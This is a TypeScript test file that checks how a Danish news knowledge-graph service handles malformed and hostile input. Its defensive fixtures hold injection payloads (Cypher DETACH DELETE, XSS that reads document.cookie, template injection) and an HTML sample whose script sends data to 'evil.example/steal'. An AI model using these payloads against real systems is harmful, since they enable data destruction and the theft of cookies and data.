// The bad-input catalog (README "Reliability and security"): every input that is no Danish article gets a clear error and writes nothing; hostile strings are stored and returned as plain text; over-wide GraphQL is refused.
import { describe, expect, it } from 'vitest';
import { loadArticleGraph } from '../../../server/ingest/load/index.ts';
import { ingestArticle } from '../../../server/ingest/pipeline.ts';
import type { ArticleGraph } from '../../../server/model.ts';
import { huaweiSanctionGraph } from '../../fixtures/loader/graphs.ts';
import { graphCounts, useTestApp, useTestServer } from '../../support/app.ts';

const app = useTestApp({ beforeEach: ({ repositories }) => loadArticleGraph(repositories, huaweiSanctionGraph()) });
const server = useTestServer();

const INGEST = `mutation($input: IngestArticleInput!) { ingestArticle(input: $input) { articleId status } }`;
const DANISH =
  'Huawei får ny chef i Danmark\n\nHuawei har ansat Mette Holm som ny direktør for den danske afdeling, oplyser selskabet til Computerworld.';

/** Runs `attempt` and checks that the graph has exactly as many nodes and relationships afterwards. */
async function writesNothing<T>(attempt: () => Promise<T>): Promise<T> {
  const before = await graphCounts(app.database);
  const result = await attempt();
  expect(await graphCounts(app.database)).toEqual(before);
  return result;
}

/** The pipeline's error for `content`, asserting that nothing was written. */
async function pipelineError(content: Uint8Array | string, source = 'input.txt') {
  return writesNothing(() =>
    ingestArticle(app.pipeline, { content, source }).then(
      () => {
        throw new Error('expected the article to be refused');
      },
      (error: { code: string; message: string; details?: Record<string, unknown> }) => error,
    ),
  );
}

/** The GraphQL error of an ingestArticle with `text`, asserting that nothing was written. */
async function mutationError(text: string) {
  const response = await writesNothing(() => server.gql(INGEST, { input: { text } }));
  expect(response.errors?.length, JSON.stringify(response.data)).toBeGreaterThan(0);
  return response.errors![0];
}

describe('article input that is no Danish article', () => {
  it('empty file and whitespace-only file: EMPTY_TEXT', async () => {
    for (const content of [new Uint8Array(), '   \n\t\n  ', Buffer.from('\n\n\n')]) {
      const error = await pipelineError(content, 'tom.txt');
      expect(error.code).toBe('EMPTY_TEXT');
      expect(error.message).toMatch(/empty: paste the article body or give a \.txt file/);
    }
    const viaApi = await mutationError('');
    expect(viaApi.extensions).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'EMPTY_TEXT' });
  });

  it('binary file (a PNG) and control characters pasted as text: BINARY_INPUT', async () => {
    const png = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]),
      Buffer.alloc(2000, 7),
    ]);
    expect((await pipelineError(png, 'billede.txt')).code).toBe('BINARY_INPUT');
    const pasted = await mutationError('\u0001\u0002\u0003\u0004'.repeat(200));
    expect(pasted.extensions).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'BINARY_INPUT' });
    expect(pasted.message).toMatch(/binary file, not article text/);
  });

  it('invalid UTF-8 that is not Latin-1 text either: BAD_ENCODING; UTF-16: BAD_ENCODING with what to do', async () => {
    const broken = Buffer.concat([
      Buffer.from('Huawei og USA '),
      Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0x81, 0x90, 0x8d]),
    ]);
    const error = await pipelineError(broken, 'ødelagt.txt');
    expect(error.code).toBe('BAD_ENCODING');
    expect(error.message).toMatch(/not valid UTF-8 text: save it as UTF-8/);
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(DANISH, 'utf16le')]);
    expect(await pipelineError(utf16, 'utf16.txt')).toMatchObject({
      code: 'BAD_ENCODING',
      message: expect.stringMatching(/UTF-16: save it as UTF-8/),
    });
  });

  it('20 MB of text: TEXT_TOO_LARGE before it is decoded, as a file and over HTTP', async () => {
    const big = Buffer.alloc(20 * 1024 * 1024, 'Huawei og USA. ');
    const error = await pipelineError(big, 'stor.txt');
    expect(error.code).toBe('TEXT_TOO_LARGE');
    expect(error.message).toMatch(
      /more than the limit of 2097152 bytes: split it into separate articles or raise NEWSGRAPH_MAX_ARTICLE_BYTES/,
    );
    const response = await writesNothing(() =>
      fetch(`${server.url}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ query: INGEST, variables: { input: { text: big.toString('utf8') } } }),
      }),
    );
    expect(response.status).toBe(413);
    expect((await response.json()).errors[0]).toMatchObject({
      extensions: { code: 'BAD_USER_INPUT', reason: 'TEXT_TOO_LARGE' },
    });
  });

  it('English text: refused as not Danish', async () => {
    const english =
      'Huawei wins new contract in Denmark\n\nThe Chinese company Huawei has signed a contract with the Danish operator TDC, ' +
      'and it is the largest deal that the company has made in the Nordic region. The deal is worth more than one billion, ' +
      'according to people who are familiar with the matter and who have seen the contract.';
    const error = await pipelineError(english, 'english.txt');
    expect(error.code).toBe('BAD_USER_INPUT');
    expect(error.message).toMatch(/reads as English; newsgraph extracts Danish news only/);
    expect((await mutationError(english)).message).toMatch(/reads as English/);
  });

  it('an HTML page: loaded as its text — markup, scripts and styles are not stored', async () => {
    const page = `<!doctype html><html><head><title>Huawei får ny chef i Danmark</title>
      <style>body { color: red }</style><script>window.alert("xss"); fetch("https://evil.example/steal")</script></head>
      <body><nav>Forside | Nyheder</nav><article><h1>Huawei får ny chef i Danmark</h1>
      <p>Huawei har ansat Mette Holm som ny direktør for den danske afdeling, oplyser selskabet til Computerworld.</p>
      <p onclick="alert(1)">Hun kommer fra en stilling hos TDC.</p></article></body></html>`;
    const summary = await ingestArticle(app.pipeline, { content: page, source: 'side.html' });
    expect(summary.status).toBe('new');
    const article = await app.repositories.articles.view(summary.articleId);
    expect(article?.title).toBe('Huawei får ny chef i Danmark');
    expect(article?.text).toMatch(/Huawei har ansat Mette Holm/);
    expect(article?.text).not.toMatch(/<|alert|evil\.example|color: red/);
  });
});

/** Strings that would do something if any layer interpreted them instead of storing them. */
const HOSTILE = [
  `Robert'); MATCH (n) DETACH DELETE n; //`,
  `x" }) { __schema { types { name } } } #`,
  `<img src=x onerror="alert('xss')">`,
  `<script>alert(document.cookie)</script>`,
  `{{constructor.constructor('return process')()}} \${7*7}`,
  `Huawei\u0000\u202e OR 1=1 --`,
];

function hostileGraph(): ArticleGraph {
  const base = huaweiSanctionGraph();
  const sentence = `${HOSTILE[0]} sagsøger ${HOSTILE[2]}.`;
  return {
    ...base,
    article: {
      ...base.article,
      id: 'article:hostile',
      sha256: 'f'.repeat(64),
      title: HOSTILE.join(' | '),
      text: `${base.article.text}\n\n${sentence}`,
    },
    entities: HOSTILE.map((name, i) => ({
      id: `company:hostile-${i}`,
      type: 'Company' as const,
      name,
      aliases: [`${name}s`],
      mentions: 1,
      section: 'body' as const,
    })),
    relations: [
      {
        fromId: 'company:hostile-0',
        type: 'SUES',
        toId: 'company:hostile-2',
        evidence: sentence,
        sentenceIndex: 0,
        props: { title: HOSTILE[3] },
        confidence: 0.7,
      },
    ],
    events: [],
  };
}

describe('Cypher, GraphQL, HTML and JS injection strings in names and titles', () => {
  it('are stored and returned as plain text, never executed', async () => {
    const before = await graphCounts(app.database);
    await loadArticleGraph(app.repositories, hostileGraph());
    const after = await graphCounts(app.database);
    // Nothing was deleted: the graph grew by the article, the six entities and their relationships.
    expect(after.nodes).toBe(before.nodes + 1 + HOSTILE.length);

    const article = await server.gql(`query($id: ID!) { article(id: $id) { title entities { name } } }`, {
      id: 'article:hostile',
    });
    expect(article.errors).toBeUndefined();
    expect(article.data!.article.title).toBe(HOSTILE.join(' | '));
    expect(article.data!.article.entities.map((e: { name: string }) => e.name).sort()).toEqual([...HOSTILE].sort());

    for (const [i, name] of HOSTILE.entries()) {
      const generated = await server.gql(
        `query($n: String!) { companies(where: {name: {eq: $n}}) { id name aliases } }`,
        { n: name },
      );
      expect(generated.data!.companies).toEqual([{ id: `company:hostile-${i}`, name, aliases: [`${name}s`] }]);
      // Search takes the words and drops the syntax: no Lucene or Cypher error, whatever the string.
      const search = await server.gql(`query($q: String!) { search(query: $q) { id name } }`, { q: name });
      expect(search.errors?.[0]?.extensions?.code ?? 'none').toMatch(/none|BAD_USER_INPUT/);
    }
    const { data } = await server.gql(`{ neighborhood(ids: ["company:hostile-0"]) { edges { type props } } }`);
    expect(data!.neighborhood.edges.find((e: { type: string }) => e.type === 'SUES').props).toBe(
      JSON.stringify({ title: HOSTILE[3] }),
    );
    // JSON responses carry the strings escaped as JSON, never as markup: the explorer renders them as text.
    const raw = await (
      await fetch(`${server.url}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ query: '{ article(id: "article:hostile") { title } }' }),
      })
    ).text();
    expect(JSON.parse(raw).data.article.title).toBe(HOSTILE.join(' | '));
  });
});

describe('GraphQL documents that ask for too much', () => {
  it('too wide: 200 aliases of one field are refused before anything runs', async () => {
    const aliases = Array.from({ length: 200 }, (_, i) => `a${i}: stats { articles }`).join(' ');
    const response = await server.gql(`{ ${aliases} }`);
    expect(response.errors![0].message).toMatch(/200 aliases; the limit is 100 — split it into several requests/);
    expect(response.errors![0].extensions).toMatchObject({ reason: 'QUERY_TOO_WIDE' });
    expect(response.data).toBeUndefined();
  });

  it('too many traversals in one request: 11 aliased neighborhoods are refused', async () => {
    const fields = Array.from(
      { length: 11 },
      (_, i) => `n${i}: neighborhood(ids: ["company:huawei"], depth: 3) { truncated }`,
    ).join(' ');
    const response = await server.gql(`{ ${fields} }`);
    expect(response.errors![0].message).toMatch(/runs 11 searches or traversals .* the limit is 10 per request/);
  });

  it('fragments spread over and over (a "billion laughs" document) are counted, not executed', async () => {
    let document = 'fragment F0 on GraphStats { articles entities events }';
    for (let i = 1; i <= 12; i++) document += ` fragment F${i} on GraphStats { ...F${i - 1} ...F${i - 1} }`;
    const response = await server.gql(`{ stats { ...F12 } } ${document}`);
    expect(response.errors![0].message).toMatch(/selects \d+ fields \(fragments expanded\); the limit is 2000/);
  });

  it("the explorer's own widest document (evidence for 40 edges at once) is still accepted", async () => {
    const node = 'id label name weight kind date';
    const fields = Array.from(
      { length: 40 },
      (_, i) =>
        `e${i}: evidence(edgeId: $e${i}) { edgeId type confidence source { ${node} } target { ${node} } items { sentence articleId articleTitle articleUrl publishedAt } }`,
    );
    const params = Array.from({ length: 40 }, (_, i) => `$e${i}: ID!`).join(', ');
    const response = await server.gql(
      `query(${params}) { ${fields.join(' ')} }`,
      Object.fromEntries(fields.map((_, i) => [`e${i}`, 'no-such-edge'])),
    );
    // Refused per field for the unknown edge ids, not for the document's size.
    expect(response.errors![0].extensions.reason).not.toBe('QUERY_TOO_WIDE');
    expect(response.errors![0].message).toMatch(/unknown edge id/);
  });

  it('huge limits: explorer limits are clamped, generated list limits over 1000 are refused with what to do', async () => {
    const search = await server.gql(`{ search(query: "huawei", limit: 100000000) { id } }`);
    expect(search.errors).toBeUndefined();
    const neighborhood = await server.gql(
      `{ neighborhood(ids: ["company:huawei"], limit: 2000000000) { nodes { id } } }`,
    );
    expect(neighborhood.errors).toBeUndefined();
    for (const [query, variables] of [
      ['{ companies(limit: 5000) { id } }', {}],
      ['query($n: Int) { articles(limit: $n) { id } }', { n: 1_000_000 }],
      ['{ companiesConnection(first: 100000) { totalCount } }', {}],
    ] as const) {
      const response = await server.gql(query, variables);
      expect(response.errors![0].message).toMatch(
        /asks for more than 1000 rows: page through the results with a cursor/,
      );
      expect(response.status, query).toBe(400);
      expect(response.errors![0].extensions).toMatchObject({
        code: 'BAD_USER_INPUT',
        reason: 'LIMIT_TOO_LARGE',
        max: 1000,
      });
    }
    // Beyond a 32-bit integer GraphQL itself refuses the value.
    const overflow = await server.gql('{ companies(limit: 99999999999) { id } }');
    expect(overflow.errors![0].extensions.code).toBe('GRAPHQL_VALIDATION_FAILED');
  });
});
